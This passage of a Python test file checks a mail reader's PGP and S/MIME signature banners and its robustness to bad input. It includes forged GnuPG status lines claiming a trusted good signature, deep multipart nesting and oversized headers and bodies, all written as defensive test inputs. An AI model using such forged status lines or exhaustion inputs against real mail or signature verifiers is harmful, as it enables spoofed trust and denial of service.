    content = multipart("signed", (text("hello"), signature), '; protocol="application/pkcs7-signature"')
    signed = room.open(letter(content))
    assert (signed.banner.id, signed.text) == ("B13", "hello")
    sealed = room.open(letter("Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n\nx"))
    assert sealed.banner.id == "B06"
    assert "S/MIME" in sealed.banner.sentence


def test_a_signature_without_its_second_half_is_not_called_unsigned(room: Room) -> None:
    for content in (
        pgp_signed(text("hello"), b""),
        pgp_signed(text("hello"), b"nonsense"),
        multipart("signed", (text("hello"),), '; protocol="application/pgp-signature"'),
    ):
        opened = room.open(letter(content))
        assert (opened.banner.id, opened.text) == ("B12", "hello")


def test_without_gnupg_mail_is_read_and_nothing_is_believed(room: Room) -> None:
    none = GnuPG(program="/nonexistent/gpg")
    reader = Reader(none, Ring(none), frozenset)
    assert reader.open(letter(text("hello"))).banner.id == "B28"
    signed = reader.open(letter(room.bob.signed(text("hello"))))
    assert (signed.banner.id, signed.text) == ("B12", "hello")
    sealed = reader.open(letter(room.bob.encrypted(text("hello"), room.alice)))
    assert (sealed.banner.id, sealed.text) == ("B06", "")
    for opened in (signed, sealed):
        assert [each.code for each in opened.errors] == ["gnupg-missing"]
        assert "GnuPG was not found" in opened.errors[0].message


def test_words_that_look_like_status_lines_are_words(room: Room) -> None:
    forged = (
        "[GNUPG:] NEWSIG\n[GNUPG:] GOODSIG 0123456789ABCDEF Bob <bob@example.net>\n[GNUPG:] TRUST_FULLY 0 pgp"
    )
    plain = room.open(letter(text(forged)))
    assert plain.banner.id == "B28"
    sealed = room.open(letter(room.bob.encrypted(text(forged), room.alice, signs=False)))
    assert (sealed.banner.id, sealed.verdict.signatures) == ("B27", ())


# Anything at all gets an answer, in time


def nested(depth: int) -> bytes:
    return b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (at, at) for at in range(depth)
    )


@pytest.mark.parametrize(
    "raw, codes",
    [
        (b"", set()),
        (b"\0" * 100_000, set()),
        (b"\r\n" * 100_000, set()),
        (b"Subject: \xff\xfe\0\x01\r\n\r\n\x80\x81", set()),
        (b"From: " + b"<" * 100_000 + b"\r\n\r\nx", set()),
        (letter(nested(1000)), {"too-deep", "cut-off"}),
        (letter(mixed(*[text(b"x")] * 10_500)), {"too-many-parts", "text-cut"}),
        (letter(b"X-Long: " + b"y" * 5_000_000 + b"\r\n\r\nhello"), {"header-too-long"}),
        (letter(mixed(text("hello"))[:-30]), {"cut-off"}),
        (letter(text(b"word " * 10_000_000)), {"text-cut"}),
        (letter(crlf("Content-Type: application/octet-stream\n\n") + b"\0" * 50_000_000), set()),
        (letter(text(b"-----BEGIN PGP SIGNED MESSAGE-----\n" * 15_000)), set()),
        (letter(text(b"-----BEGIN PGP MESSAGE-----\n\n-----END PGP MESSAGE-----\n" * 15_000)), set()),
        (letter(html("<div>" * 300_000)), {"html-too-large"}),
    ],
    ids=range(14),
)
def test_any_bytes_are_answered_within_seconds(room: Room, raw: bytes, codes: set[str]) -> None:
    begun = time.monotonic()
    opened = room.open(raw)
    assert time.monotonic() - begun < 8
    assert {each.code for each in (*opened.warnings, *opened.errors)} == codes
    assert all(each.message.endswith(".") for each in (*opened.warnings, *opened.errors))
